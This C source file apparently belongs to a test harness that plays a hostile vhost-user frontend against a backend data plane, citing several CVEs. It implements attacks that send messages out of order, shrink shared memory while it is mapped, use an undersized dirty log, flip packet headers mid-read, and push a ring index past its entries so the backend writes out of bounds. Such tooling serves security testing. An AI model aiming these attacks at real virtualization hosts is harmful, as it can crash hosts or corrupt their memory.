// Sessions that break the protocol's order, or its premises: memory that shrinks, events that are
// full, a log that is too small (vhost-user protocol; CVE-2019-14835, CVE-2024-11614).
#define _GNU_SOURCE
#include "sessions.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "vhost_user.h"

enum { LOG_SHMFD = 1, LOG_ALL = 26, FLAG_LOG = 1, RESET_OWNER = 4 };

static bool attach(struct card *card, const struct session *session) {
  if (!card_attach(card, session->socket, NULL)) return false;
  card_offer_buffers(card);
  return true;
}

// Good frames, so that both rings are in use; nothing is taken back.
static void send_some(struct card *card, const struct session *session, unsigned count) {
  for (unsigned i = 0; i < count && !session->is_over(session); i++) {
    card_send(card, session->frame, sizeof session->frame);
    usleep(200);
  }
}

// MARK: Order

static bool kick_first(struct card *card) {
  for (uint32_t ring = 0; ring < 2; ring++) {
    if (!card_tell_event(card, SET_VRING_KICK, ring, card->rings[ring].kick) ||
        !card_tell_word(card, SET_VRING_ENABLE, ring, 1))
      return false;
    ring_kick(&card->rings[ring]);
  }
  return card_share_memory(card) && card_is_heard(card);
}

static bool address_first(struct card *card) {
  return card_tell_size(card, SEND, RING_SIZE) &&
         card_tell_address(card, SEND, ring_places(SEND), 0) &&
         card_tell_event(card, SET_VRING_KICK, SEND, card->rings[SEND].kick) &&
         card_tell_word(card, SET_VRING_ENABLE, SEND, 1) && card_is_heard(card);
}

static bool stop_twice(struct card *card) {
  uint32_t words[] = {SEND, 0};
  for (unsigned i = 0; i < 3; i++) {
    if (!vhost_user_send(card->socket, GET_VRING_BASE, words, sizeof words, -1)) return false;
    struct {
      struct vhost_user_header header;
      uint32_t words[2];
    } answer;
    if (!vhost_user_receive(card->socket, &answer, sizeof answer)) return false;
    ring_kick(&card->rings[SEND]);
  }
  return card_tell_event(card, SET_VRING_KICK, SEND, card->rings[SEND].kick) &&
         card_is_heard(card);
}

// Every variant does something that comes too early, twice, or never.
static bool disorder(struct card *card, const struct session *session) {
  if (session->variant < 2) {
    if (!card_negotiate(card, session->socket, 0, 0)) return false;
    return session->variant == 0 ? kick_first(card) : address_first(card);
  }
  if (!attach(card, session)) return false;
  uint64_t nothing = 0;
  send_some(card, session, 32);
  switch (session->variant) {
    case 2:
      for (unsigned i = 0; i < 20; i++) {
        if (!card_share_memory(card)) return false;
        send_some(card, session, 8);
      }
      break;
    case 3: return stop_twice(card);
    case 4:
      if (!vhost_user_send(card->socket, SET_FEATURES, &nothing, sizeof nothing, -1)) return false;
      break;
    case 5:
      if (!card_tell_size(card, SEND, 4) || !card_tell_size(card, RECEIVE, 2)) return false;
      break;
    default:
      if (!vhost_user_send(card->socket, RESET_OWNER, NULL, 0, -1)) return false;
  }
  send_some(card, session, 64);
  return card_is_heard(card);
}

static bool same_again(struct card *card, const struct session *session) {
  if (!attach(card, session)) return false;
  for (unsigned i = 0; i < 2000; i++) {
    uint32_t ring = i & 1;
    if (!card_tell_size(card, ring, RING_SIZE) ||
        !card_tell_event(card, SET_VRING_CALL, ring, card->rings[ring].call))
      return false;
    if (i % 64 == 0 && (session->is_over(session) || !card_is_heard(card))) break;
  }
  return true;
}

// MARK: Memory, log, events

// The file shrinks under who maps it; it cannot be sealed against that.
static bool memory_cut(struct card *card, const struct session *session) {
  if (!attach(card, session)) return false;
  send_some(card, session, 16);
  // From here on this process may not touch its memory either.
  if (ftruncate(card->memory_file, 0) != 0) return false;
  for (unsigned i = 0; i < 100 && !session->is_over(session); i++) {
    ring_kick(&card->rings[SEND]);
    usleep(5000);
  }
  return card_is_heard(card);
}

// A log of 64 bytes, 512 pages, for memory of 8,192 pages, and chains with impossible lengths.
static bool log_small(struct card *card, const struct session *session) {
  int file = memfd_create("log", MFD_CLOEXEC);
  uint64_t log[] = {64, 0};
  uint64_t all = card->features | UINT64_C(1) << LOG_ALL;
  if (file < 0 || ftruncate(file, 4096) != 0 ||
      !card_negotiate(card, session->socket, UINT64_C(1) << LOG_ALL, UINT64_C(1) << LOG_SHMFD))
    return false;
  all |= card->features;
  if (!card_share_memory(card) ||
      !vhost_user_send(card->socket, SET_LOG_BASE, log, sizeof log, file))
    return false;
  close(file);
  // The answer to the log's message.
  struct {
    struct vhost_user_header header;
    uint64_t word;
  } answer;
  if (!vhost_user_receive(card->socket, &answer.header, sizeof answer.header)) return false;
  if (answer.header.size > sizeof answer.word) return false;
  if (answer.header.size && !vhost_user_receive(card->socket, &answer.word, answer.header.size)) return false;
  for (uint32_t ring = 0; ring < 2; ring++) {
    if (!card_share_ring(card, ring, ring_places(ring)) ||
        !card_tell_address(card, ring, ring_places(ring), FLAG_LOG))
      return false;
  }
  if (!vhost_user_send(card->socket, SET_FEATURES, &all, sizeof all, -1)) return false;
  card_offer_buffers(card);
  for (unsigned i = 0; i < RING_SIZE; i++)
    card->rings[RECEIVE].descriptors[i].length = i % 2 ? 0xffffffff : BUFFER_BYTES;
  send_some(card, session, 200);
  return card_is_heard(card);
}

// A full event that blocks who signals it: O_NONBLOCK is of the file, which both sides share.
static bool call_full(struct card *card, const struct session *session) {
  if (!attach(card, session)) return false;
  uint64_t most = UINT64_MAX - 1;
  for (uint32_t ring = 0; ring < 2; ring++) {
    int call = card->rings[ring].call;
    if (write(call, &most, sizeof most) < 0) continue;
  }
  while (!session->is_over(session)) {
    // Whatever the other side makes of the file.
    for (uint32_t ring = 0; ring < 2; ring++) fcntl(card->rings[ring].call, F_SETFL, 0);
    card_send(card, session->frame, sizeof session->frame);
    usleep(1000);
  }
  return true;
}

static bool never_takes(struct card *card, const struct session *session) {
  if (!attach(card, session)) return false;
  while (!session->is_over(session)) send_some(card, session, 16);
  return true;
}

// MARK: Headers that change while they are read

struct flipper {
  volatile uint8_t *header;
  volatile bool stop;
};

static void *flip(void *argument) {
  struct flipper *flipper = argument;
  // Checksum start and offset, segment size and type, all at once right and wrong.
  for (unsigned turn = 0; !flipper->stop; turn++) {
    bool is_good = turn & 1;
    flipper->header[0] = is_good ? 0 : 1;
    flipper->header[1] = is_good ? 0 : 1;
    *(volatile uint16_t *)(flipper->header + 4) = is_good ? 1460 : 0;
    *(volatile uint16_t *)(flipper->header + 6) = is_good ? 34 : 0xfff0;
    *(volatile uint16_t *)(flipper->header + 8) = is_good ? 16 : 0xffff;
    // Length and version of the IP header too, behind the virtio and Ethernet headers.
    flipper->header[HEADER_BYTES + 14] = is_good ? 0x45 : 0x4f;
  }
  return NULL;
}

static bool header_flips(struct card *card, const struct session *session) {
  static const uint8_t ip[] = {0x45, 0, 0, 46, 0, 0, 0x40, 0, 64, 6};
  if (!attach(card, session)) return false;
  uint8_t *buffer = card->memory + ARENA;
  memset(buffer, 0, 2048);
  memcpy(buffer + HEADER_BYTES, session->frame, 12);
  buffer[HEADER_BYTES + 12] = 8;
  memcpy(buffer + HEADER_BYTES + 14, ip, sizeof ip);
  struct flipper flipper = {.header = buffer};
  pthread_t thread;
  if (pthread_create(&thread, NULL, flip, &flipper) != 0) return false;
  struct ring *ring = &card->rings[SEND];
  while (!session->is_over(session)) {
    for (unsigned i = 0; i < 32; i++) {
      unsigned index = ring->next_available % RING_SIZE;
      ring->descriptors[index] =
          (struct descriptor){guest_address(ARENA), HEADER_BYTES + 60 + i * 40, 0, 0};
      ring_offer(ring, index);
    }
    usleep(1000);
  }
  flipper.stop = true;
  pthread_join(thread, NULL);
  return true;
}

// Buffers of a byte each, in no order, for frames that come (CVE-2021-3748).
static bool tiny_buffers(struct card *card, const struct session *session) {
  if (!card_attach(card, session->socket, NULL)) return false;
  struct ring *ring = &card->rings[RECEIVE];
  for (unsigned i = 0; i < RING_SIZE; i++) {
    unsigned index = i * 97 % RING_SIZE;
    ring->descriptors[index] = (struct descriptor){
        guest_address(buffer_offset(RECEIVE, index)), 1 + i % 3 * 11, WRITE, 0};
    ring_offer(ring, index);
  }
  while (!session->is_over(session)) {
    uint32_t head, length;
    send_some(card, session, 4);
    while (ring_take(ring, &head, &length)) ring_offer(ring, head % RING_SIZE);
  }
  return true;
}

// Has the receive ring's index lie and tell the truth in turn, to be believed at the wrong moment.
struct waverer {
  struct ring *ring;
  volatile bool stop;
};

static void *waver(void *argument) {
  struct waverer *waverer = argument;
  struct ring *ring = waverer->ring;
  while (!waverer->stop) {
    uint16_t used = ring->used[1];
    ring->available[1] = used + 0x4000;
    for (volatile int i = 0; i < 20; i++) continue;
    ring->available[1] = used + RING_SIZE - 1;
    for (volatile int i = 0; i < 20; i++) continue;
  }
  return NULL;
}

// An index of the receive ring far beyond its entries, and chains of which 16 make up one frame: what
// comes at once takes more of them than the ring has. A data plane that notes them all writes past the
// used ring, and past memory of its own.
static bool index_beyond(struct card *card, const struct session *session) {
  pthread_t thread;
  if (!attach(card, session)) return false;
  struct ring *ring = &card->rings[RECEIVE];
  for (unsigned i = 0; i < RING_SIZE; i++) {
    ring->descriptors[i].length = i % 16 == 15 ? 256 : 0;
    ring->available[2 + i] = i;
  }
  struct waverer waverer = {.ring = ring};
  if (pthread_create(&thread, NULL, waver, &waverer) != 0) return false;
  while (!session->is_over(session)) {
    for (unsigned i = 0; i < 64; i++) card_send(card, session->frame, sizeof session->frame);
    usleep(50000);
  }
  waverer.stop = true;
  pthread_join(thread, NULL);
  unsigned past = 0;
  for (unsigned i = 2 + 4 * RING_SIZE; i < (RING_BYTES - 0x2000) / 2; i++) past += ring->used[i] != 0;
  printf("index-beyond: %u frames' chains came back, %u words written past the used ring\n",
         ring->used[1] / 16, past);
  return card_is_heard(card);
}

const struct session_attack session_attacks[] = {
    {"disorder", "messages too early, twice, or never (--variant 0 to 6)", disorder},
    {"same-again", "ring sizes and events told again and again", same_again},
    {"memory-cut", "the memory's file is cut to nothing under way", memory_cut},
    {"log-small", "a dirty log smaller than the memory, and false lengths", log_small},
    {"call-full", "events that are full and block", call_full},
    {"never-takes", "what comes is never taken", never_takes},
    {"header-flips", "headers that change while they are read", header_flips},
    {"index-beyond", "a receive ring's index beyond its entries, and frames in many of them",
     index_beyond},
    {"tiny-buffers", "receive buffers of 1 to 23 bytes", tiny_buffers},
    {"packed-short", "a packed ring's chains shorter than the header", packed_short},
    {"packed-empty-outside", "a packed ring's empty buffers outside the memory",
     packed_empty_outside},
    {"packed-flips", "a packed ring's flags that change while they are read", packed_flips},
};
const unsigned session_attack_count = sizeof session_attacks / sizeof *session_attacks;
